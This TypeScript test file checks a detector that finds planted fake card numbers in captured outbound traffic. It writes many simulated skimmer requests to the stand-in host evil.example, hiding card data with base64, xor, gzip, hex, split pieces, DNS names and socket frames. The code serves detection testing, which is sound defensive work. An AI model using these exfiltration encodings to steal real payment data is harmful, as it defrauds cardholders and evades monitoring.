import assert from 'node:assert/strict'
import { test } from 'node:test'
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import { screen } from '@candor/card-guard/card-guard.ts'
import { makeCanary, type Canary } from '../src/canary.ts'
import { findCanary, type CanaryFinding } from '../src/find-canary.ts'
import type { Sent } from '../src/sent.ts'
import { randomRequest, seeded, seededBytes } from './random-traffic.ts'

const now = new Date('2026-11-25T12:00:00Z')
const random = seeded(20171012)
const canaries = Array.from({ length: 60 }, () => makeCanary(seededBytes(random), now))
const whole = (max: number): number => Math.floor(random() * max)
const printable = (length: number): string =>
  Array.from({ length }, () => String.fromCharCode(97 + whole(26))).join('')

function request(change: Partial<Sent> | string): Sent {
  return {
    kind: 'request',
    method: 'POST',
    url: typeof change === 'string' ? change : 'https://evil.example/c',
    headers: [],
    body: new Uint8Array(0),
    ...(typeof change === 'string' ? {} : change),
  }
}

const body = (bytes: string | Uint8Array): Sent => request({ body: Buffer.from(bytes as string) })
const grouped = (number: string, gap: string): string => number.match(/.{4}/g)!.join(gap)
const reversed = (text: string): string => [...text].reverse().join('')
const xor = (bytes: Uint8Array, key: Uint8Array): Buffer =>
  Buffer.from(bytes.map((byte, i) => byte ^ key[i % key.length]!))
const key = (length: number): Uint8Array => Uint8Array.from({ length }, () => 1 + whole(255))
/** As a skimmer writes it: the number among the rest of the form. */
const loot = ({ number, month, year, cvc, name }: Canary): string =>
  JSON.stringify({ n: printable(whole(9)), pan: number, exp: `${month}/${year}`, cvc, name })

/** Each way in which a number may leave in one request; every one is tried with every canary. */
const spellings: Record<string, (canary: Canary) => Sent> = {
  'as it is, in the address': ({ number }) => request(`https://evil.example/c?d=${number}`),
  'in the path': ({ number }) => request(`https://evil.example/${number}.gif`),
  'in the name of a host': ({ number }) => request(`https://a${number}.evil.example/`),
  'in a name that is looked up': ({ number }) =>
    request({ kind: 'name', url: `dns://x${number}.evil.example` }),
  'in a header': ({ number }) => request({ headers: [['X-Trace', `a-${number}`]] }),
  'in a cookie, in base64': (canary) =>
    request({ headers: [['Cookie', `s=${Buffer.from(loot(canary)).toString('base64')}`]] }),
  'in a frame of a socket': ({ number }) =>
    request({ kind: 'frame', url: 'wss://evil.example/', body: Buffer.from(number) }),
  'in a packet': ({ number }) =>
    request({ kind: 'packet', url: 'udp://192.0.2.1:3478', body: Buffer.from(`\0\x06${number}:x`) }),
  'in groups of four with spaces': ({ number }) => body(`card=${grouped(number, ' ')}`),
  'with dashes': ({ number }) => body(grouped(number, '-')),
  'one digit a line': ({ number }) => body([...number].join('\r\n')),
  'with a plus between groups, as forms send it': ({ number }) => body(`card=${grouped(number, '+')}`),
  'four fields of four': ({ number }) =>
    body(`a=${number.slice(0, 4)}&b=${number.slice(4, 8)}&c=${number.slice(8, 12)}&d=${number.slice(12)}`),
  'in multipart': ({ number }) =>
    body(`--b\r\nContent-Disposition: form-data; name="x"; filename="a.bin"\r\n\r\n${number}\r\n--b--\r\n`),
  reversed: ({ number }) => body(reversed(number)),
  'reversed, in groups': ({ number }) => body(reversed(grouped(number, ' '))),
  'in base64': (canary) => body(Buffer.from(loot(canary)).toString('base64')),
  'in base64, bare': ({ number }) => body(btoa(number)),
  'in base64 after one byte': ({ number }) => body(btoa(`x${number}`)),
  'in base64 after two bytes': ({ number }) => body(btoa(`xy${number}`)),
  'in base64 with something glued in front': (canary) =>
    body(`k${Buffer.from(loot(canary)).toString('base64')}`),
  'in base64url, in the address': (canary) =>
    request(`https://evil.example/?q=${Buffer.from(loot(canary)).toString('base64url')}`),
  'in base64 twice': (canary) => body(btoa(btoa(loot(canary)))),
  'in base64 of a number of two bytes a character': ({ number }) =>
    body(Buffer.from(number, 'utf16le').toString('base64')),
  'in base64, reversed': (canary) => body(reversed(btoa(loot(canary)))),
  'reversed, in base64': (canary) => body(btoa(reversed(loot(canary)))),
  'in hex': ({ number }) => body(Buffer.from(number).toString('hex')),
  'in capital hex': (canary) => body(Buffer.from(loot(canary)).toString('hex').toUpperCase()),
  'in hex with colons': ({ number }) => body(Buffer.from(number).toString('hex').match(/../g)!.join(':')),
  'in hex with \\x': ({ number }) => body([...number].map((digit) => `\\x3${digit}`).join('')),
  'percent-encoded': ({ number }) =>
    request(`https://evil.example/?d=${[...number].map((digit) => `%3${digit}`).join('')}`),
  'percent-encoded twice': ({ number }) =>
    request(`https://evil.example/?d=${[...number].map((digit) => `%253${digit}`).join('')}`),
  'in JSON': (canary) => body(loot(canary)),
  'in JSON with \\u': ({ number }) =>
    body(`{"a":"${[...number].map((digit) => `\\u003${digit}`).join('')}"}`),
  'in JSON in a form field': (canary) => body(`payload=${encodeURIComponent(JSON.stringify(loot(canary)))}`),
  'as HTML references': ({ number }) => body([...number].map((digit) => `&#x3${digit};`).join('')),
  'xored with one byte': (canary) => body(xor(Buffer.from(loot(canary)), key(1))),
  'xored with two bytes': (canary) => body(xor(Buffer.from(loot(canary)), key(2))),
  'xored with three bytes': (canary) => body(xor(Buffer.from(loot(canary)), key(3))),
  'xored with four bytes': (canary) => body(xor(Buffer.from(loot(canary)), key(4))),
  'xored, in base64': (canary) => body(xor(Buffer.from(loot(canary)), key(4)).toString('base64')),
  'xored, in hex': (canary) => body(xor(Buffer.from(loot(canary)), key(3)).toString('hex')),
  'xored in groups, in base64url, in the address': ({ number }) =>
    request(`https://evil.example/p?${xor(Buffer.from(grouped(number, ' ')), key(2)).toString('base64url')}`),
  'reversed and xored': ({ number }) => body(xor(Buffer.from(`..${reversed(number)}..`), key(4))),
  'as character codes': ({ number }) => body([...number].map((digit) => digit.charCodeAt(0)).join(',')),
  'as character codes in JSON': (canary) => body(JSON.stringify([...Buffer.from(loot(canary))])),
  'as character codes moved by a constant': ({ number }) =>
    body([...number].map((digit) => digit.charCodeAt(0) + 77).join('.')),
  'as character codes without a gap': ({ number }) =>
    body([...number].map((digit) => `0${digit.charCodeAt(0)}`).join('')),
  'compressed (gzip)': (canary) => body(gzipSync(loot(canary))),
  'compressed (gzip), in multipart': (canary) =>
    body(Buffer.concat([Buffer.from('--b\r\n\r\n'), gzipSync(loot(canary)), Buffer.from('\r\n--b--')])),
  'compressed (deflate)': (canary) => body(deflateSync(loot(canary))),
  'compressed (raw deflate)': (canary) => body(deflateRawSync(loot(canary))),
  'compressed, in base64': (canary) => body(gzipSync(loot(canary)).toString('base64')),
  'digits moved by a constant': ({ number }) =>
    body([...number].map((digit) => (Number(digit) + 7) % 10).join('')),
  'digits subtracted from nine': ({ number }) => body([...number].map((digit) => 9 - Number(digit)).join('')),
  'digits as letters': ({ number }) => body([...number].map((digit) => 'ghijklmnop'[Number(digit)]).join('')),
  'digits written wide': ({ number }) =>
    body([...number].map((digit) => String.fromCharCode(0xff10 + Number(digit))).join('')),
  'two bytes a character': ({ number }) => body(Buffer.from(number, 'utf16le')),
  'as a number in base 36': ({ number }) => request(`https://evil.example/${Number(number).toString(36)}`),
  'as a hexadecimal number': ({ number }) => body(Number(number).toString(16)),
  'as packed decimal': ({ number }) => body(Buffer.concat([Buffer.from([1, 2]), Buffer.from(number, 'hex')])),
  'as eight bytes': ({ number }) => body(Buffer.from(new BigUint64Array([BigInt(number)]).buffer)),
  'as a floating-point number': ({ number }) => body(Buffer.from(new Float64Array([Number(number)]).buffer)),
}

for (const [spelling, send] of Object.entries(spellings))
  test(`a canary is found ${spelling}`, () => {
    for (const canary of canaries) {
      const found = findCanary([randomRequest(random, 0), send(canary), randomRequest(random, 1)], [canary])
      assert.ok(
        found.some(({ sent }) => sent.includes(1)),
        `${canary.number} in ${JSON.stringify(send(canary).url)} ${Buffer.from(send(canary).body).toString('latin1')}`,
      )
    }
  })

/** Each way in which a number may leave in pieces: texts that are sent one after the other. */
const splits: Record<string, (number: string) => Sent[]> = {
  'four by four, in one parameter': (number) =>
    number.match(/.{4}/g)!.map((piece) => request(`https://evil.example/p?d=${piece}`)),
  'three by three': (number) =>
    [...number.match(/.{3}/g)!.slice(0, 4), number.slice(12)].map((piece) =>
      request(`https://evil.example/p?d=${piece}`),
    ),
  'with decoys of the same length between': (number) =>
    number
      .match(/.{4}/g)!
      .flatMap((piece) => [String(1000 + whole(9000)), piece])
      .map((piece) => request(`https://evil.example/p?d=${piece}`)),
  'with a counter beside it': (number) =>
    number
      .match(/.{4}/g)!
      .map((piece, i) => request(`https://evil.example/p?i=${i}&d=${piece}&r=${printable(8)}`)),
  'in bodies of JSON': (number) =>
    number.match(/.{4}/g)!.map((piece, i) => body(JSON.stringify({ seq: i, chunk: piece }))),
  'in paths of images, to several hosts': (number) =>
    number.match(/.{4}/g)!.map((piece, i) => request(`https://h${i}.evil.example/i/${piece}.gif`)),
  'in base64': (number) =>
    number.match(/.{4}/g)!.map((piece) => request(`https://evil.example/p?d=${btoa(piece)}`)),
  reversed: (number) =>
    reversed(number)
      .match(/.{4}/g)!
      .map((piece) => request(`https://evil.example/p?d=${piece}`)),
  'in parameters of other names': (number) =>
    number.match(/.{4}/g)!.map((piece, i) => request(`https://evil.example/?${'wxyz'[i]}=${piece}`)),
  'key by key, as it is typed': (number) => [...number].map((digit) => body(`k=${digit}`)),
  'in frames of a socket': (number) =>
    number
      .match(/.{4}/g)!
      .map((piece) =>
        request({ kind: 'frame', url: 'wss://evil.example/', body: Buffer.from(`a:${piece}`) }),
      ),
  'in names that are looked up': (number) =>
    number.match(/.{4}/g)!.map((piece) => request({ kind: 'name', url: `dns://p${piece}.evil.example` })),
}

for (const [how, send] of Object.entries(splits))
  test(`a canary that leaves in pieces is found ${how}`, () => {
    for (const { number, ...rest } of canaries.slice(0, 30)) {
      // Other traffic before, between and after.
      const sent = [
        randomRequest(random, 0),
        ...send(number).flatMap((piece, i) => [piece, randomRequest(random, i + 1)]),
      ]
      const found = findCanary(sent, [{ number, ...rest }])
      assert.equal(found.length > 0, true, number)
      assert.ok(
        found.every(({ where, chance }) => where === 'pieces' && chance! <= 1e-5),
        JSON.stringify(found),
      )
    }
  })

test('nothing is found in 50,000 requests of random traffic, whole or in pieces', () => {
  const traffic = seeded(1912)
  const some = canaries.slice(0, 1)
  const found: CanaryFinding[] = []
  // As runs are: some hundred requests each, searched together.
  for (let run = 0; run < 100; run++)
    found.push(
      ...findCanary(
        Array.from({ length: 500 }, (_, at) => randomRequest(traffic, at)),
        some,
      ),
    )
  assert.deepEqual(found, [])
})

test('pieces that anybody might have sent are not taken for a canary’s', () => {
  const [canary] = canaries
  // Every number of three and four digits, over and over: all pieces are there, and it means nothing.
  const counters = Array.from({ length: 20_000 }, (_, at) =>
    request(`https://metrics.example/c?n=${at}&m=${at % 1000}`),
  )
  assert.deepEqual(findCanary(counters, [canary!]), [])
})

test('which of several canaries was found is said', () => {
  const [one, other] = canaries as [Canary, Canary]
  const found = findCanary([request(`https://evil.example/?d=${other.number}`)], [one, other])
  assert.deepEqual(found, [
    {
      sent: [0],
      canary: 1,
      encoding: 'plain',
      where: 'address',
      url: `https://evil.example/?d=${other.number}`,
      chance: null,
    },
  ])
})

test('a canary is a card number that forms accept, and hardly ever the same twice', () => {
  const numbers = Array.from({ length: 5_000 }, () => makeCanary(seededBytes(random), now))
  assert.ok(new Set(numbers.map(({ number }) => number)).size >= 4_999)
  for (const { number, month, year, cvc } of numbers.slice(0, 500)) {
    assert.match(number, /^400000\d{10}$/)
    assert.equal(screen(`my card is ${number}`).findings.length, 1, number)
    assert.match(`${month}/${year} ${cvc}`, /^(0[1-9]|1[0-2])\/20(28|29|30) \d{3}$/)
  }
})

test('a bomb of zeros, a word of a megabyte and nested encodings end in bounded time', () => {
  const startedAt = performance.now()
  const bomb = gzipSync(Buffer.alloc(200_000_000))
  const [canary] = canaries
  findCanary(
    [
      body(bomb),
      body('A'.repeat(1_000_000)),
      body('0123456789abcdef'.repeat(60_000)),
      body('1,'.repeat(500_000)),
    ],
    [canary!],
  )
  assert.ok(performance.now() - startedAt < 20_000)
})
